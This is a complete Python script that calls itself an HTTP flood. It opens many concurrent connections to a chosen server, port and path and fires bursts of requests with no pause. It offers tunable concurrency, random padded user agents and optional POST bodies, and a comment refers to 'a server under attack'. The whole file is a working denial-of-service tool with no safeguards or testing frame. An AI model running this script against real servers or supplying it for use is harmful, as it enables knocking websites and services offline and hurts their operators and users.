#!/usr/bin/env python3
"""An HTTP flood: many connections at once, each with a number of requests for one page and no pause between them."""
import argparse
import asyncio
import random


def request(options, number):
    lines = [f"{options.method} {options.path} HTTP/1.1", f"Host: {options.server}", "Accept: */*"]
    lines.append("User-Agent: " + "flood/" + "x" * random.randint(0, options.padding))
    body = b"d" * random.randint(1, 300) if options.method == "POST" else b""
    if body:
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: " + ("close" if number == 1 else "keep-alive"))
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


async def read_answer(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            await reader.readexactly(int(line.split(b":")[1]))


async def one_connection(options, slots):
    async with slots:
        try:
            reader, writer = await asyncio.open_connection(options.server, options.port)
            for number in range(random.randint(options.least, options.most), 0, -1):
                writer.write(request(options, number))
                await read_answer(reader)
            writer.close()
            await writer.wait_closed()
        except (OSError, EOFError, asyncio.IncompleteReadError):
            pass  # a server under attack hangs up


async def flood(options):
    slots = asyncio.Semaphore(options.at_once)
    await asyncio.gather(*(one_connection(options, slots) for _ in range(options.connections)))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("server")
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("--connections", type=int, default=60)
    parser.add_argument("--at-once", type=int, default=20)
    parser.add_argument("--least", type=int, default=1, help="requests per connection")
    parser.add_argument("--most", type=int, default=20)
    parser.add_argument("--padding", type=int, default=200, help="random bytes of the user agent, at most")
    parser.add_argument("--method", choices=["GET", "POST"], default="GET")
    asyncio.run(flood(parser.parse_args()))


if __name__ == "__main__":
    main()
